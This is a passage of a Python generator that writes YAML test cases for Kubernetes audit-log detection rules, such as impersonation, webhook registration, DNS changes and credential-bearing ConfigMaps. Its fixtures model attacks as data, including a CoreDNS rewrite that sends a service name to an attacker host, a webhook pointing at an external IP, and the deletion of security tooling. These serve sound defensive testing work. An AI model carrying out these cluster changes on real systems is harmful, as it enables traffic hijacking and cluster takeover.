            req=dict(CSR, status={"conditions": [{"type": "Approved", "status": "True", "reason": "KubectlApprove"}]})),
         fire=["Certificate Signing Request Approved"]),
    case("controller approves a kubelet CSR",
         ev("update", "certificatesigningrequests", name="csr-8k2lq", sub="approval",
            user="system:serviceaccount:kube-system:certificate-controller", ua=KCM),
         no_fire=["Certificate Signing Request Approved"]),
)
add(A,
    case("impersonating system:masters",
         ev("list", "secrets", ns="kube-system", user="dev@example.com",
            imp={"username": "dev@example.com", "groups": ["system:masters"]}),
         fire=["Privileged Identity Impersonated"], no_fire=["Request Made Through Impersonation"]),
    case("impersonating system:masters, access records on",
         ev("list", "secrets", ns="kube-system", user="dev@example.com",
            imp={"username": "dev@example.com", "groups": ["system:masters"]}),
         fire=["Privileged Identity Impersonated", "Request Made Through Impersonation"], extra=ENABLE),
    case("impersonating a kube-system service account",
         ev("get", "pods", ns="default", user="dev@example.com",
            imp={"username": "system:serviceaccount:kube-system:replicaset-controller"}),
         fire=["Privileged Identity Impersonated"]),
    case("impersonating a node and the nodes group",
         ev("get", "secrets", ns="payments", name="db-password", user="dev@example.com",
            imp={"username": "system:node:" + NODE, "groups": ["system:nodes", "system:authenticated"]}),
         fire=["Privileged Identity Impersonated"]),
    case("impersonating kubeadm's cluster-admins group",
         ev("delete", "namespaces", name="payments", user="dev@example.com",
            imp={"username": "dev@example.com", "groups": ["kubeadm:cluster-admins"]}),
         fire=["Privileged Identity Impersonated"]),
    case("impersonating the GitOps controller (cluster-wide rights)",
         ev("create", "clusterrolebindings", name="x", user="dev@example.com",
            imp={"username": "system:serviceaccount:argocd:argocd-application-controller"}),
         fire=["Privileged Identity Impersonated"]),
    case("impersonating an ordinary user",
         ev("get", "pods", ns="default", user="support@example.com", imp={"username": "bob@example.com"}),
         no_fire=["Privileged Identity Impersonated", "Impersonation By Service Account", "Request Made Through Impersonation"]),
    case("a person testing as the CI service account (kubectl --as)",
         [ev("get", "deployments", ns="ci", name="gitlab-runner", user="carol.ops@example.com",
             imp={"username": "system:serviceaccount:ci:gitlab-runner", "groups": ["system:serviceaccounts", "system:authenticated"]}),
          ev("create", "deployments", ns="checkout", name="cart", user="erin-sre@example.com",
             imp={"username": "system:serviceaccount:ci:gitlab-runner", "groups": ["system:serviceaccounts", "system:authenticated"]})],
         no_fire=["Privileged Identity Impersonated", "Impersonation By Service Account", "Request Made Through Impersonation"]),
    case("impersonating an ordinary user, access records on",
         ev("get", "pods", ns="default", user="support@example.com", imp={"username": "bob@example.com"}),
         fire=["Request Made Through Impersonation"], no_fire=["Privileged Identity Impersonated"], extra=ENABLE),
    case("a workload token impersonating a user",
         ev("list", "secrets", ns="payments", user="system:serviceaccount:web:default", ua="python-requests/2.31.0",
            imp={"username": "bob@example.com", "groups": ["dev-team"]}),
         fire=["Impersonation By Service Account"], no_fire=["Privileged Identity Impersonated"]),
    case("no impersonation",
         ev("get", "pods", ns="default"),
         no_fire=["Privileged Identity Impersonated", "Request Made Through Impersonation", "Impersonation By Service Account"],
         extra=ENABLE),
    case("impersonation by a trusted gateway",
         ev("get", "pods", ns="default", user="system:serviceaccount:teleport:teleport", imp={"username": "bob@example.com"}),
         no_fire=["Request Made Through Impersonation", "Impersonation By Service Account"], extra=ENABLE),
)
SSAR = {"kind": "SelfSubjectAccessReview", "apiVersion": "authorization.k8s.io/v1",
        "spec": {"resourceAttributes": {"verb": "create", "resource": "pods", "subresource": "exec"}}}
SSRR = {"kind": "SelfSubjectRulesReview", "apiVersion": "authorization.k8s.io/v1", "spec": {"namespace": "default"}}
add(A,
    case("workload enumerates its permissions",
         ev("create", "selfsubjectrulesreviews", user="system:serviceaccount:web:default", ua="kubectl/v1.29.2 (linux/amd64) kubernetes/4b8e819", req=SSRR),
         fire=["Permissions Enumerated"]),
    case("a person's single access review is not enumeration",
         ev("create", "selfsubjectaccessreviews", req=SSAR),
         no_fire=["Permissions Enumerated"]),
    case("a pod's token asks can-i through kubectl",
         ev("create", "selfsubjectaccessreviews", user="system:serviceaccount:web:default",
            ua="kubectl/v1.29.2 (linux/amd64) kubernetes/4b8e819", req=SSAR),
         fire=["Permissions Enumerated"]),
    case("a controller checking its own access",
         ev("create", "selfsubjectaccessreviews", user="system:serviceaccount:argocd:argocd-server",
            ua="argocd-server/v2.10.1 (linux/amd64)", req=SSAR),
         no_fire=["Permissions Enumerated"]),
)

# =========================================================================
# 40-cluster
# =========================================================================
C = "40-cluster.yaml"
MWC = {"kind": "MutatingWebhookConfiguration", "apiVersion": "admissionregistration.k8s.io/v1",
       "metadata": {"name": "pod-policy"},
       "webhooks": [{"name": "pods.policy.example.com", "clientConfig": {"url": "https://203.0.113.66:8443/mutate"},
                     "rules": [{"operations": ["CREATE"], "apiGroups": [""], "apiVersions": ["v1"], "resources": ["pods"]}],
                     "sideEffects": "None", "admissionReviewVersions": ["v1"], "failurePolicy": "Ignore"}]}
add(C,
    case("user registers a mutating webhook to an external URL",
         ev("create", "mutatingwebhookconfigurations", name="pod-policy", req=MWC),
         fire=["Admission Webhook Registered Or Changed"]),
    case("cert-manager cainjector patches caBundle",
         ev("patch", "validatingwebhookconfigurations", name="cert-manager-webhook",
            user="system:serviceaccount:cert-manager:cert-manager-cainjector", ua="cainjector/v1.14.2",
            req={"webhooks": [{"name": "webhook.cert-manager.io", "clientConfig": {"caBundle": "LS0tLS1CRUdJTi=="}}]}),
         no_fire=["Admission Webhook Registered Or Changed"]),
    case("user deletes the policy engine webhook",
         ev("delete", "validatingwebhookconfigurations", name="gatekeeper-validating-webhook-configuration"),
         fire=["Admission Control Removed"], no_fire=["Admission Webhook Registered Or Changed"]),
    case("user deletes a validating admission policy binding",
         ev("delete", "validatingadmissionpolicybindings", name="deny-privileged-binding"),
         fire=["Admission Control Removed"]),
    case("reading webhook configurations",
         ev("list", "mutatingwebhookconfigurations"),
         no_fire=["Admission Control Removed", "Admission Webhook Registered Or Changed"]),
)
add(C,
    case("namespace relabelled to privileged",
         ev("patch", "namespaces", name="payments",
            req={"metadata": {"labels": {"pod-security.kubernetes.io/enforce": "privileged"}}}),
         fire=["Namespace Pod Security Relaxed"]),
    case("enforce label removed",
         ev("patch", "namespaces", name="payments",
            req={"metadata": {"labels": {"pod-security.kubernetes.io/enforce": None}}}),
         fire=["Namespace Pod Security Relaxed"]),
    case("namespace hardened to restricted",
         ev("patch", "namespaces", name="payments",
            req={"metadata": {"labels": {"pod-security.kubernetes.io/enforce": "restricted"}}}),
         no_fire=["Namespace Pod Security Relaxed"]),
)
add(C,
    case("pod admitted with pod security violations",
         dict(pod(ns="dev", name="web-x", containers=[ctr("nginx:1.25")]),
              annotations={"authorization.k8s.io/decision": "allow", "authorization.k8s.io/reason": "",
                           "pod-security.kubernetes.io/audit-violations": 'would violate PodSecurity "restricted:latest": allowPrivilegeEscalation != false'}),
         fire=["Pod Security Violation Recorded"]),
    case("pod without violations",
         pod(ns="dev", name="web-y"),
         no_fire=["Pod Security Violation Recorded"]),
)
add(C,
    case("user deletes all events of a namespace",
         ev("deletecollection", "events", ns="payments"),
         fire=["Kubernetes Events Deleted"]),
    case("user deletes one event",
         ev("delete", "events", ns="payments", name="payments-api-6c9f7-abcde.17c1a0e2b1f3a9d4"),
         fire=["Kubernetes Events Deleted"]),
    case("namespace controller cleans events",
         ev("deletecollection", "events", ns="old-ns", user="system:serviceaccount:kube-system:namespace-controller", ua=KCM),
         no_fire=["Kubernetes Events Deleted"]),
    case("scheduler records an event",
         ev("create", "events", ns="payments", name="payments-api.17c1", user="system:kube-scheduler",
            ua="kube-scheduler/v1.29.3 (linux/amd64) kubernetes/6813625"),
         no_fire=["Kubernetes Events Deleted"]),
)
add(C,
    case("falco daemonset deleted",
         ev("delete", "daemonsets", ns="falco", name="falco"),
         fire=["Security Tooling Removed"]),
    case("falco namespace deleted",
         ev("delete", "namespaces", name="falco"),
         fire=["Security Tooling Removed"]),
    case("application deployment deleted",
         ev("delete", "deployments", ns="payments", name="payments-api"),
         no_fire=["Security Tooling Removed"]),
)
add(C,
    case("aws-auth patched to map a new role",
         ev("patch", "configmaps", ns="kube-system", name="aws-auth",
            req={"data": {"mapRoles": "- rolearn: arn:aws:iam::123456789012:role/x\n  username: x\n  groups:\n  - system:masters\n"}}),
         fire=["AWS IAM Mapping ConfigMap Modified"]),
    case("aws-auth read",
         ev("get", "configmaps", ns="kube-system", name="aws-auth"),
         no_fire=["AWS IAM Mapping ConfigMap Modified"]),
)
add(C,
    case("coredns Corefile rewritten",
         cm("kube-system", "coredns", {"Corefile": ".:53 {\n    rewrite name payments-api.payments.svc.cluster.local evil.attacker.example\n    forward . /etc/resolv.conf\n}\n"}, verb="update"),
         fire=["Cluster DNS Configuration Modified"]),
    case("eks addon manager updates coredns",
         cm("kube-system", "coredns", {"Corefile": ".:53 {\n    forward . /etc/resolv.conf\n}\n"}, verb="update",
            user="eks:addon-manager", ua="eks-addon-manager/v0.0.0"),
         no_fire=["Cluster DNS Configuration Modified"]),
)
add(C,
    case("configmap with an AWS key",
         cm("payments", "legacy-config", {"access.properties": "aws_access_key_id = AKIAEFBCA2AA34AF9D23\n"}),
         fire=["ConfigMap Contains Credentials"]),
    case("configmap with a bare access key id",
         cm("payments", "legacy-config-2", {"env": "KEY=AKIAIOSFODNN7EXAMPLE\n"}),
         fire=["ConfigMap Contains Credentials"]),
    case("configmap with a Password setting",
         cm("payments", "db", {"DB_PASSWORD": "hunter2"}, verb="update"),
         fire=["ConfigMap Contains Credentials"]),
    case("plain configmap",
         cm("payments", "settings", {"LOG_LEVEL": "info", "FEATURE_FLAGS": "a,b"}),
         no_fire=["ConfigMap Contains Credentials"]),
)
SVC = lambda t: {"kind": "Service", "apiVersion": "v1", "metadata": {"name": "web", "namespace": "default"},
                 "spec": {"type": t, "selector": {"app": "web"},
                          "ports": [{"port": 80, "targetPort": 8080, "protocol": "TCP"}]}}
add(C,
    case("NodePort service created",
         ev("create", "services", ns="default", name="web", req=SVC("NodePort")),
         fire=["NodePort Service Exposed"]),
    case("service switched to NodePort by patch",
         ev("patch", "services", ns="default", name="web", req={"spec": {"type": "NodePort"}}),
         fire=["NodePort Service Exposed"]),
    case("ClusterIP service",
         ev("create", "services", ns="default", name="web", req=SVC("ClusterIP")),
         no_fire=["NodePort Service Exposed"]),
)
ING = lambda tls: {"kind": "Ingress", "apiVersion": "networking.k8s.io/v1", "metadata": {"name": "shop", "namespace": "shop"},
                   "spec": dict({"rules": [{"host": "shop.example.com", "http": {"paths": [{"path": "/", "pathType": "Prefix",
                                 "backend": {"service": {"name": "shop", "port": {"number": 80}}}}]}}]},
                                **({"tls": [{"hosts": ["shop.example.com"], "secretName": "shop-tls"}]} if tls else {}))}
add(C,
    case("ingress without tls",
         ev("create", "ingresses", ns="shop", name="shop", req=ING(False)),
         fire=["Ingress Without TLS Created"]),
    case("ingress with tls",
         ev("create", "ingresses", ns="shop", name="shop", req=ING(True)),
         no_fire=["Ingress Without TLS Created"]),
)
add(C,
    case("networkpolicy deleted by a user",
         ev("delete", "networkpolicies", ns="payments", name="default-deny"),
         fire=["NetworkPolicy Deleted"]),
    case("networkpolicy created",
         ev("create", "networkpolicies", ns="payments", name="default-deny"),
         no_fire=["NetworkPolicy Deleted"]),
)
NODE_OBJ = {"kind": "Node", "apiVersion": "v1", "metadata": {"name": "rogue-node-1"}}
add(C,
    case("node allowlist on: unknown node joins",
         ev("create", "nodes", name="rogue-node-1", user="system:node:rogue-node-1", ua=KUBELET, req=NODE_OBJ),
         fire=["Node Joined Outside Allowlist"], no_fire=["Node Join Refused Outside Allowlist"], extra=ENABLE),
    case("node allowlist on: unknown node refused",
         ev("create", "nodes", name="rogue-node-1", user="system:node:rogue-node-1", ua=KUBELET, req=NODE_OBJ, code=403),
         fire=["Node Join Refused Outside Allowlist"], no_fire=["Node Joined Outside Allowlist"], extra=ENABLE),
    case("node allowlist on: listed node joins",
         ev("create", "nodes", name=NODE, user="system:node:" + NODE, ua=KUBELET),
         no_fire=["Node Joined Outside Allowlist", "Node Join Refused Outside Allowlist"], extra=ENABLE),
    case("node allowlist off by default",
         ev("create", "nodes", name="rogue-node-1", user="system:node:rogue-node-1", ua=KUBELET, req=NODE_OBJ),
         no_fire=["Node Joined Outside Allowlist"]),
    case("namespace allowlist on: new namespace",
         ev("create", "namespaces", name="crypto", req={"kind": "Namespace", "apiVersion": "v1", "metadata": {"name": "crypto"}}),
         fire=["Namespace Created Outside Allowlist"], extra=ENABLE),
    case("namespace allowlist on: allowed namespace",
         ev("create", "namespaces", name="payments"),
         no_fire=["Namespace Created Outside Allowlist"], extra=ENABLE),
)

# =========================================================================
# 90-activity (all need the optional switch)
# =========================================================================
V = "90-activity.yaml"
ACT = [("Deployment", "deployments", "payments", "payments-api"), ("Service", "services", "payments", "payments-api"),
       ("ConfigMap", "configmaps", "payments", "settings"), ("Namespace", "namespaces", None, "sandbox"),
       ("Service Account", "serviceaccounts", "payments", "worker"), ("Role", "roles", "payments", "reader"),
       ("ClusterRole", "clusterroles", None, "reader"), ("RoleBinding", "rolebindings", "payments", "reader"),
       ("ClusterRoleBinding", "clusterrolebindings", None, "reader"), ("Secret", "secrets", "payments", "db")]
for label, res, ns, name in ACT:
    for verb, word in (("create", "Created"), ("delete", "Deleted")):
        rn = "%s %s" % (label, word)
        add(V,
            case("%s (activity on)" % rn.lower(), ev(verb, res, ns=ns, name=name), fire=[rn], extra=ENABLE),
            case("%s failed (activity on)" % rn.lower(), ev(verb, res, ns=ns, name=name, code=403), no_fire=[rn], extra=ENABLE),
            case("%s (activity off by default)" % rn.lower(), ev(verb, res, ns=ns, name=name), no_fire=[rn]))
add(V,
    case("secret read (activity on)", ev("get", "secrets", ns="payments", name="db"), fire=["Secret Read"], extra=ENABLE),
    case("kubelet secret read is not recorded", ev("get", "secrets", ns="payments", name="db",
                                                  user="system:node:" + NODE, ua=KUBELET),
         no_fire=["Secret Read"], extra=ENABLE),
    case("cluster-wide pod listing by a person (activity on)", ev("list", "pods"), fire=["Resource Listing Recorded"], extra=ENABLE),
    case("namespaced pod listing", ev("list", "pods", ns="payments"), no_fire=["Resource Listing Recorded"], extra=ENABLE),
    case("firehose on", ev("get", "pods", ns="payments", name="x"), fire=["Audit Event Firehose"], extra=ENABLE),
    case("firehose off by default", ev("get", "pods", ns="payments", name="x"), no_fire=["Audit Event Firehose"]),
    case("namespace deletion by the control plane is not recorded",
         ev("delete", "namespaces", name="sandbox", user="system:serviceaccount:kube-system:namespace-controller", ua=KCM),
         no_fire=["Namespace Deleted"], extra=ENABLE),
    case("service account token request is not a service account creation",
         ev("create", "serviceaccounts", ns="payments", name="worker", sub="token", user="system:node:" + NODE, ua=KUBELET),
         no_fire=["Service Account Created"], extra=ENABLE),
)


class Dumper(yaml.SafeDumper):
    pass


def main():
    os.makedirs(OUT, exist_ok=True)
    for fname, cases in FILES.items():
        with open(os.path.join(OUT, fname), "w") as fh:
            fh.write("# Generated by rules/tools/gen_tests.py — edit the generator, not this file.\n")
            fh.write("# Test cases for rules/%s (format: see rules/tests/README.md).\n" % fname)
            yaml.dump(cases, fh, Dumper=Dumper, sort_keys=False, default_flow_style=None, width=110,
                      allow_unicode=True)
    print("wrote", ", ".join("%s (%d cases)" % (f, len(c)) for f, c in FILES.items()))


if __name__ == "__main__":
    main()
